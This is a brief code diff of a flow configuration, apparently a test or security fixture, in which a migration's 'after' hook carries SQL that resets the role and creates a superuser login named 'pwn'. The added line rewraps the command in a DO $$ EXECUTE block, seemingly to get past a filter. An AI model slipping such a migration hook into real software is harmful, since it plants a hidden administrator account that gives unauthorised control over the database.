@@ -12,5 +12,5 @@ export default defineFlow({
       },
     },
   },
-  migrations: { '1.1.0': { after: "RESET ROLE; CREATE ROLE pwn SUPERUSER LOGIN PASSWORD 'x';" } },
+  migrations: { '1.1.0': { after: "RESET ROLE; DO $$ BEGIN EXECUTE 'CREATE ROLE pwn SUPERUSER LOGIN'; END $$;" } },
 });
